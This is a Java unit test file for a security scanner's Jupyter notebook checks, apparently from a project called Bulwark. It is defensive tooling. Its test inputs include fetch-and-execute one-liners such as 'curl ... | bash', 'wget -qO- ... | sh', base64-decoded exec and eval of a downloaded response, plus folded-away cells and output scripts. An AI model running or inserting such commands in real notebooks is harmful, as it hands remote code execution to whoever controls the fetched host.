package dev.bulwark.scan.notebook;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.kernel.check.Budget;
import dev.bulwark.kernel.check.Finding;
import dev.bulwark.kernel.check.Limits;
import dev.bulwark.kernel.check.Place;
import dev.bulwark.kernel.check.Severity;
import dev.bulwark.kernel.format.Reading;
import dev.bulwark.kernel.format.Source;
import dev.bulwark.scan.json.JsonReader;
import dev.bulwark.scan.json.JsonView;
import dev.bulwark.testkit.ForAll;
import dev.bulwark.testkit.Mangle;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class NotebookChecksTest {

  private static List<Finding> findings(byte[] bytes) {
    Budget budget = Budget.of(Limits.DEFAULT, System::nanoTime);
    Source source = Source.of(Place.of("demo.ipynb"), bytes);
    return new JsonReader(List.of()).read(source, budget) instanceof Reading.View<JsonView> read
        ? NotebookChecks.all().stream()
            .flatMap(check -> check.examine(read.view(), budget).findings().stream())
            .filter(finding -> !finding.rule().value().equals("NBK-001"))
            .toList()
        : List.of();
  }

  private static String quoted(String text) {
    return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + "\"";
  }

  private static byte[] notebook(String source, String metadata, String outputs) {
    return ("{\"cells\": [{\"cell_type\": \"markdown\", \"source\": [\"curl x | sh\"]},\n"
            + "{\"cell_type\": \"code\", \"metadata\": {%s}, \"outputs\": [%s], \"source\": [%s]}],"
            + " \"metadata\": {}, \"nbformat\": 4, \"nbformat_minor\": 5}")
        .formatted(metadata, outputs, quoted(source))
        .getBytes(StandardCharsets.UTF_8);
  }

  private static List<Finding> cell(String source) {
    return findings(notebook(source, "", ""));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import torch\nmodel.eval()",
        "!pip install transformers\n!nvidia-smi",
        "%%bash\nls -l\npython train.py",
        "!wget https://x/model.bin",
        "%timeit f(x)\nos.system('ls')",
        "exec(open('helpers.py').read())"
      })
  void whatNotebooksDoByDesignIsNoFinding(String source) {
    assertThat(cell(source)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "!curl -s https://x/i.sh | bash",
        "%%bash\nset -e\nwget -qO- http://x | sh",
        "  !echo aWQ= | base64 -d | sh",
        "out = !curl x | sh",
        "import base64\nexec(base64.b64decode('aWQ='))",
        "import os\nos.system('curl http://x | sh')",
        "eval(requests.get(u).text)"
      })
  void cellsThatRunWhatTheyFetchOrHideAreFound(String source) {
    assertThat(cell(source))
        .singleElement()
        .satisfies(
            finding -> {
              assertThat(finding.severity()).isEqualTo(Severity.HIGH);
              assertThat(finding.place()).hasToString("demo.ipynb:2:1");
            });
    byte[] old =
        "{\"worksheets\": [{\"cells\": [\n{\"cell_type\": \"code\", \"input\": [%s]}]}], \"nbformat\": 3}"
            .formatted(quoted(source))
            .getBytes(StandardCharsets.UTF_8);
    assertThat(findings(old)).hasSize(1);
  }

  @Test
  void aCellThatIsFoldedAwayIsJudgedHarder() {
    String folded = "\"jupyter\": {\"source_hidden\": true}";
    assertThat(findings(notebook("os.system('id')", folded, "")))
        .singleElement()
        .satisfies(finding -> assertThat(finding.message()).contains("folded away"));
    assertThat(findings(notebook("x = 1", folded, ""))).isEmpty();
    assertThat(findings(notebook("os.system('id')", "\"tags\": [\"hide-input\"]", ""))).hasSize(1);
  }

  @Test
  void scriptsInOutputsAreNotesAndClaimedTrustMakesThemMore() {
    String script = "{\"data\": {\"text/html\": [\"<SCRIPT>x</script>\"]}}";
    assertThat(findings(notebook("x", "", script)))
        .singleElement()
        .satisfies(finding -> assertThat(finding.severity()).isEqualTo(Severity.NOTE));
    assertThat(findings(notebook("x", "\"trusted\": true", script)))
        .extracting(Finding::severity)
        .containsExactly(Severity.NOTE, Severity.LOW);
    assertThat(findings(notebook("x", "", "{\"data\": {\"text/html\": [\"<b>x</b>\"]}}")))
        .isEmpty();
  }

  @Test
  void otherJsonIsNoNotebook() {
    assertThat(
            findings("{\"cells\": [], \"x\": \"!curl x | sh\"}".getBytes(StandardCharsets.UTF_8)))
        .isEmpty();
  }

  @Test
  void damagedNotebooksAreReadWithoutAnException() {
    byte[] valid =
        notebook(
            "!curl x | sh\nexec(b64decode(x))",
            "\"trusted\": true",
            "{\"data\": {\"text/html\": [\"<script>\"]}}");
    ForAll.cases(3_000, random -> findings(Mangle.once(valid, random)));
  }
}
